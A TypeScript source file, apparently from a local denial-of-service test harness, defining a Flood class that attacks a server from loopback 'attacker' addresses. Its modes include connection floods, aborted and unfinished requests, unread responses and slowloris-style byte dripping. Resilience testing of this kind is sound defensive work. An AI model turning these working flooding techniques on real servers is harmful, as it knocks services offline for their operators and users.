import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.js';
import { makeKeys } from './device-talk.js';
import { RawConnection, type Answer } from './raw-connection.js';
import type { Target } from './target.js';

/** The address of the attacker. */
export const ATTACKER_ADDRESS = '127.0.0.2';

/** If there are several addresses, they follow this one: two hundred in each network of 254. */
function addressOf(index: number): string {
  return index === 0 ? ATTACKER_ADDRESS : `127.0.${1 + Math.floor(index / 200)}.${1 + (index % 200)}`;
}

/** Pause before a refused or closed connection is opened again. */
const REOPEN_MS = 20;
const DRIP_MS = 1_000;
/** Pause before a request is aborted: long enough to have been read. */
const ABORT_MS = 3;
/** An attack ends by itself in any case. */
const MAX_REQUESTS = 2_000_000;

/** The result of an attack. */
export interface Tally {
  sent: number;
  /**
   * Answers by status; `closed`: connections that ended without an answer; `refused`: connections that were not
   * accepted.
   */
  readonly outcomes: Record<string, number>;
}

/** One attack on one store, from one address, for some time. */
export class Flood {
  readonly tally: Tally = { sent: 0, outcomes: {} };
  private readonly open = new Set<RawConnection>();
  private readonly requests: readonly Buffer[];
  private isOver = false;
  private serial = 0;

  /** Makes all requests. Afterwards they only need to be sent. */
  constructor(
    private readonly attack: Attack,
    private readonly target: Target,
  ) {
    const { request, conversation, variants = 1, depth = 1 } = attack;
    if (conversation) makeKeys();
    this.requests = request
      ? Array.from({ length: variants }, (_, serial) => {
          const bytes = request(target, serial);
          return depth === 1 ? bytes : Buffer.concat(Array.from({ length: depth }, () => bytes));
        })
      : [];
  }

  async run(seconds: number): Promise<Tally> {
    const { connections, addresses = 1 } = this.attack;
    const working = Promise.all(
      Array.from({ length: connections }, (_, index) => this.connection(addressOf(index % addresses))),
    );
    await sleep(seconds * 1_000);
    this.isOver = true;
    for (const one of this.open) one.end();
    await working;
    return this.tally;
  }

  private async connection(address: string): Promise<void> {
    while (!this.isOver && this.tally.sent < MAX_REQUESTS) {
      const connection = await RawConnection.open(this.reached, address);
      if (!connection) this.count('refused');
      else if (this.isOver) connection.end();
      else {
        this.open.add(connection);
        await this.use(connection);
        connection.end();
        this.open.delete(connection);
      }
      if (!this.isOver) await sleep(REOPEN_MS);
    }
  }

  /** A silent connection does not start TLS either. */
  private get reached(): Target {
    return this.attack.way === 'silent' ? { ...this.target, tls: false } : this.target;
  }

  /** Until the connection is closed or the time is over. */
  private async use(connection: RawConnection): Promise<void> {
    const { way, conversation, depth = 1 } = this.attack;
    switch (way) {
      case 'ask':
        while (this.mayGoOn(connection)) await this.ask(connection, this.next());
        return;
      case 'talk':
        while (this.mayGoOn(connection))
          await conversation?.((bytes) => this.ask(connection, bytes), this.target, (this.serial += 1));
        return;
      case 'unread':
        this.tally.sent += depth;
        connection.sendUnread(this.next());
        return await this.untilClosed(connection);
      case 'abort':
        this.tally.sent += 1;
        connection.socket.write(this.next());
        await Promise.race([sleep(ABORT_MS), connection.closed]);
        return;
      case 'connect':
        this.tally.sent += 1;
        return;
      case 'silent':
        this.tally.sent += 1;
        return await this.untilClosed(connection);
      case 'sip':
        return await this.sip(connection, depth);
      case 'unfinished':
        return void (await this.ask(connection, this.next().subarray(0, -1)));
      case 'drip':
        return await this.drip(connection, this.next());
    }
  }

  private mayGoOn(connection: RawConnection): boolean {
    return !this.isOver && connection.isOpen && this.tally.sent < MAX_REQUESTS;
  }

  private next(): Buffer {
    this.serial += 1;
    return this.requests[this.serial % this.requests.length] ?? Buffer.alloc(0);
  }

  private async ask(connection: RawConnection, bytes: Buffer): Promise<Answer | undefined> {
    this.tally.sent += 1;
    const answer = await connection.ask(bytes);
    if (answer) this.count(String(answer.status));
    else if (!this.isOver) this.count('closed');
    return answer;
  }

  private async untilClosed(connection: RawConnection): Promise<void> {
    await connection.closed;
    if (!this.isOver) this.count('closed');
  }

  private async drip(connection: RawConnection, bytes: Buffer): Promise<void> {
    const body = bytes.indexOf('\r\n\r\n') + 4;
    const answered = this.ask(connection, bytes.subarray(0, body));
    for (let at = body; this.mayGoOn(connection); at += 1) {
      await Promise.race([sleep(DRIP_MS), connection.closed]);
      if (connection.isOpen) connection.socket.write(bytes.subarray(at, at + 1));
    }
    await answered;
  }

  private async sip(connection: RawConnection, depth: number): Promise<void> {
    while (this.mayGoOn(connection)) {
      this.tally.sent += depth;
      connection.sendUnread(this.next());
      await Promise.race([sleep(DRIP_MS), connection.closed]);
      connection.socket.once('data', () => connection.socket.pause());
      connection.socket.resume();
    }
  }

  private count(outcome: string): void {
    this.tally.outcomes[outcome] = (this.tally.outcomes[outcome] ?? 0) + 1;
  }
}
